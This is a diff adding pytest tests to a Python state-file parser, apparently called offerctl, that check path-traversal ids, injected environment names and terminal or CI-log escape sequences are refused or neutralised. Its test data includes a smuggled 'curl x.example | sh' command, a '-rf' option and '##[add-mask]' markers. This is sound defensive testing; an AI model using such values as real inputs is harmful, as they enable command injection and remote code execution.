@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import json
 import re
 from dataclasses import replace
+from datetime import UTC, datetime
 from typing import Any
 
 import pytest
@@ -12,8 +14,8 @@ from hypothesis import strategies as st
 
 from offerctl import canon
 from offerctl.errors import StateUnreadable
-from offerctl.state import Belief, Home, State, Status
-from offerctl.state.document import encode, heading, parse, seal
+from offerctl.state import Belief, Home, RunRecord, State, Status
+from offerctl.state.document import belief_json, encode, harmless, heading, parse, seal
 from support.states import document, states
 
 _CHECKSUM = re.compile(rb'^  "checksum": "([0-9a-f]{64})"', re.MULTILINE)
@@ -186,3 +188,57 @@ def test_a_confirmed_listing_without_a_body_is_refused() -> None:
     state = State(lineage="l", home=Home("prod", "https://m.example", "pro-1"), listings={"a": belief})
     with pytest.raises(StateUnreadable, match="a confirmed listing has no body"):
         parse(encode(state))
+
+
+GONE = belief_json(Belief(status=Status.GONE, key=None))
+NO_IDS = [".", "..", "../x", "a/b", "a%2f..", "", "`![](https://x.example)`", "a\n::stop-commands::x", "a" * 65]
+
+
+@pytest.mark.parametrize("id_", NO_IDS)
+@pytest.mark.parametrize("place", ["listings", "approved", "changes"])
+def test_what_can_be_no_id_is_refused_wherever_it_stands(place: str, id_: str) -> None:
+    """A listing called `.` would be deleted at the collection's own address, and `..` at its parent's."""
+    value = canon.parse(document(1))
+    change = {"id": id_, "intent": "put", "outcome": "done", "from": None, "to": None}
+    record = {"id": "r", "who": "w", "commit": None, "pull_request": None, "started": "2026-09-02T14:03:00Z"}
+    value |= {
+        "listings": {"listings": {id_: GONE}},
+        "approved": {"approved": {id_: "0" * 64}},
+        "changes": {"last_run": {**record, "finished": None, "changes": [change]}},
+    }[place]
+    with pytest.raises(StateUnreadable, match="cannot be an offeringId") as caught:
+        parse(sealed(value))
+    assert "\n" not in caught.value.message
+
+
+@pytest.mark.parametrize("name", ["prod; curl x.example | sh", "prod\x1b[2J", "-rf", ""])
+def test_an_environment_that_no_configuration_can_have_is_refused(name: str) -> None:
+    """Messages write it into commands that people copy."""
+    value = canon.parse(document(1)) | {"environment": name}
+    with pytest.raises(StateUnreadable, match="cannot be the name of an environment"):
+        parse(sealed(value))
+
+
+def test_a_document_holds_what_is_not_seen_as_escapes() -> None:
+    """In git and in a terminal nothing hides in it or acts; its reader gets the very text."""
+    record = RunRecord(id="r", who="a\u202e\x9b\U000e0101##[add-mask]b", started=datetime(2026, 9, 2, tzinfo=UTC))
+    state = State(lineage="l", home=Home("prod", "https://m.example", "pro-1"), last_run=record)
+    data = encode(state)
+    assert data.isascii()
+    assert b"##[" not in data
+    assert parse(data).last_run == record
+    assert harmless(data) == data
+
+
+def test_a_document_of_an_older_offerctl_is_shown_harmless_and_still_whole() -> None:
+    """It is read as it stands; a copy of it has the same values as escapes, and a checksum of its own."""
+    who = "a\u202e\x9b\U000e0101##[add-mask]b"
+    state = State(lineage="l", home=Home("prod", "https://m.example", "pro-1"))
+    state = replace(state, last_run=RunRecord(id="r", who=who, started=datetime(2026, 9, 2, tzinfo=UTC)))
+    value = canon.parse(encode(state)) | {"checksum": "0" * 64}
+    body = json.dumps(value, indent=2, ensure_ascii=False, sort_keys=True).replace(",\n", ",\r\n").encode()
+    old = body.replace(b'"checksum": "' + b"0" * 64, b'"checksum": "' + canon.sha256(body).encode(), 1)
+    assert parse(old).last_run == state.last_run
+    copy = harmless(old)
+    assert (copy.isascii(), b"\r" in copy, b"##[" in copy) == (True, False, False)
+    assert parse(copy) == replace(parse(old), checksum=parse(copy).checksum)
